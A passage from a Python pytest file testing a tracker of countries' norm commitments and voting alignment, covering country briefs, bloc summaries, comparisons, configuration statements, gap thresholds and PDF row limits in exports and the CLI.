        assert row.score == pytest.approx(matrix.loc[row.party_a, row.party_b], abs=1e-4)
    assert (table["co_votes"] > 0).all()


@pytest.mark.parametrize(
    "call,message",
    [
        (lambda c: ex.alignment_table(c, basis="vibes"), "unknown basis"),
        (lambda c: ex.country_brief(c, "IND", resolution="A/RES/99/999"), "A/RES/99/999"),
    ],
)
def test_analytics_bad_input(bundled, call, message):
    with pytest.raises(ValueError, match=message):
        call(bundled)


# --------------------------------------------------------------------------- norm commitments and configuration


def test_brief_norm_section_is_the_ladder_of_the_party(bundled):
    from tracker import norms

    report = ex.country_brief(bundled, "Japan", as_of="2026-01-01")
    table = report.section("norms").table.set_index("norm_id")
    assert list(table.index) == norms.norm_ids(bundled)  # every norm, none-recorded ones included
    lad = norms.ladder(bundled, party="JPN", as_of="2026-01-01").set_index("norm_id")
    for norm, row in table.iterrows():
        if norm not in lad.index or not lad.loc[norm, "supported"]:
            assert pd.isna(row["level"])
        else:
            assert row["level"] == lad.loc[norm, "level"]
            assert row["commitment"].startswith(f"{lad.loc[norm, 'level']} {lad.loc[norm, 'level_name']}")
            assert row["source_id"] == lad.loc[norm, "source_id"]
    assert (table["commitment"] == "none recorded").sum() == len(table) - len(lad)
    refs = report.source_refs()
    assert all(sid in refs for sid in table["source_id"] if sid)  # every cited source is numbered
    assert "Norm commitments: each party's strongest supporting evidence" in report.method


def test_bloc_norm_section_shares_add_up_and_match_the_ladder(eu_summary, bundled):
    from tracker import norms

    table = eu_summary.section("norms").table.set_index("norm_id")
    members = list(eu_summary.section("members").table["party_code"])
    rungs = [name.replace(" ", "_") for name in norms.LEVEL_NAMES.values()]
    shares = table[[*rungs, "none_recorded"]].sum(axis=1)
    assert np.allclose(shares, 1.0, atol=1e-3)
    lad = norms.ladder(bundled, as_of=eu_summary.as_of)
    lad = lad[lad["party_code"].isin(members) & lad["supported"]]
    for norm, row in table.iterrows():
        binding = int(((lad["norm_id"] == norm) & (lad["level"] == 1)).sum())
        assert row["binding"] == pytest.approx(binding / len(members), abs=1e-4)
        assert row["members"] == len(members)
    assert set(eu_summary.section("norms").formats) == {*rungs, "none_recorded"}


def test_comparison_shows_the_ladders_side_by_side(bundled):
    from tracker import norms

    report = ex.comparison(bundled, ["USA", "RUS", "BRA"], as_of="2026-01-01")
    table = report.section("norms").table.set_index("norm_id")
    lad = norms.ladder(bundled, as_of="2026-01-01").set_index(["norm_id", "party_code"])
    for norm, row in table.iterrows():
        for code in ("USA", "RUS", "BRA"):
            if (norm, code) not in lad.index:
                assert row[code] == "none recorded"
            elif lad.loc[(norm, code), "supported"]:
                assert row[code].startswith(str(lad.loc[(norm, code), "level"]))
    pairs = report.section("alignment").table
    assert {"norm_score", "reading"} <= set(pairs.columns)


def test_every_analysis_export_states_the_configuration(mini):
    from tracker.analytics.config import AnalysisConfig

    for name, report in golden_reports(mini).items():
        assert AnalysisConfig().describe() in report.method, name


def test_gaps_follow_the_configured_min_share(bundled):
    default = ex.country_brief(bundled, "Kenya", bloc="au", as_of="2026-01-01")
    strict = ex.country_brief(bundled, "Kenya", bloc="au", as_of="2026-01-01", min_share=0.9)
    assert default.parameters["min_share"] == 0.3 and strict.parameters["min_share"] == 0.9
    gaps = default.section("gaps").table
    assert "malabo-convention" in set(gaps["instrument_id"])  # 30% of the AU: Kenya's gap shows (issue 15)
    assert (gaps["bloc_adoption_rate"] >= 0.3).all()
    assert len(strict.section("gaps").table) < len(gaps)
    with pytest.raises(ValueError, match="min_share must be between 0 and 1"):
        ex.country_brief(bundled, "Kenya", bloc="au", min_share=1.5)


def test_a_table_too_long_to_print_is_refused_with_the_formats_that_carry_it(mini, monkeypatch):
    report = golden_reports(mini)["bloc_g7"]
    members = report.section("members")
    rows = len(members.table)
    monkeypatch.setattr(pdf_render, "PDF_MAX_ROWS", rows)
    only_members = dataclasses.replace(report, sections=[members])
    assert ex.to_pdf(only_members).startswith(b"%PDF")  # at the limit: printed
    longer = dataclasses.replace(members, table=pd.concat([members.table, members.table.iloc[:1]]))
    with pytest.raises(InvalidInput, match=r"too long to print.*csv, xlsx or json"):
        ex.to_pdf(dataclasses.replace(report, sections=[longer]))


def test_cli_pdf_of_a_raw_table_over_the_limit_is_one_line_and_no_file(mini_path, tmp_path, monkeypatch):
    monkeypatch.setattr(pdf_render, "PDF_MAX_ROWS", 3)
    out = tmp_path / "pairs.pdf"
    result = runner.invoke(app, ["export", "alignment", "-f", "pdf", "-o", str(out), "--catalogue", str(mini_path)])
    assert result.exit_code != 0
    errors = [line for line in result.stderr.splitlines() if line.startswith("error:")]
    assert len(errors) == 1 and "too long to print" in errors[0] and "--party" in errors[0]
    assert not out.exists()
    ok = runner.invoke(
        app, ["export", "alignment", "-f", "csv", "-o", str(tmp_path / "pairs.csv"), "--catalogue", str(mini_path)]
    )
    assert ok.exit_code == 0 and (tmp_path / "pairs.csv").stat().st_size > 0
